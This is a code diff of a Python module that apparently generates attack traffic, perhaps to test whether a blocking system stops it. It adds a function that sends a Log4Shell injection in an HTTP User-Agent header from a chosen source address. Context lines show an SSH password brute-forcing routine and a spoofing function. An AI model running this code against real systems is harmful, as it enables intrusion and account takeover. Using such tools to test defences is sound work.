@@ -77,6 +77,19 @@ def get(source: str, target: str, path: str, headers: dict[str, str]) -> int:
         connection.close()
 
 
+def strike(source: str, target: str) -> None:
+    """Send the Log4Shell header and hang up at once, so that being blocked costs no waiting.
+
+    Raises:
+        OSError: no connection within the time.
+    """
+    with socket.create_connection((target, 80), _TIMEOUT_S, (source, 0)) as sock:
+        request = f"GET / HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {PAYLOAD}\r\n\r\n"
+        sock.sendall(request.encode())
+        # Linger of zero seconds: a reset instead of retries that a blocked source would go on with.
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+
+
 def brute(source: str, target: str) -> None:
     """Try the guesses, one connection each user, until a login succeeds."""
     if shutil.which("ssh") is None:
@@ -108,13 +121,14 @@ def login(source: str, target: str, user: str, passwords: Sequence[str]) -> int:
             "LogLevel": "ERROR",
         }
         words = [f"-o{key}={value}" for key, value in options.items()]
-        return subprocess.run(
+        done = subprocess.run(
             ["ssh", "-F", "/dev/null", *words, f"{user}@{target}", "id"],
             env={**os.environ, "SSH_ASKPASS": str(ask), "SSH_ASKPASS_REQUIRE": "force"},
             stdin=subprocess.DEVNULL,
             stdout=subprocess.DEVNULL,
             check=False,
-        ).returncode
+        )
+        return int(done.returncode)
 
 
 def spoof(source: str, target: str) -> None:
@@ -146,7 +160,7 @@ def datagram(source: str, target: str, port: int, data: bytes) -> bytes:
 def checksum(data: bytes) -> int:
     """Return the Internet checksum (RFC 1071)."""
     padded = data + b"\0" * (len(data) % 2)
-    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
+    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
     while total >> 16:
         total = (total & 0xFFFF) + (total >> 16)
     return ~total & 0xFFFF
